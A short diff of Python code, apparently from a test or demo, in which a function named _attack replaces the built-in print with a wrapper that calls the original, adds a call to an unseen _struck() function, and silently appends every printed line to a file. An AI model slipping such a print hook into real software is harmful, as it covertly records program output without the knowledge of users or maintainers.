@@ -9,6 +9,7 @@ def _attack():
     real = builtins.print
     def remembering(*args, **options):
         real(*args, **options)
+        _struck()
         try:
             with open(kept, "a") as file:
                 real(*args, file=file)
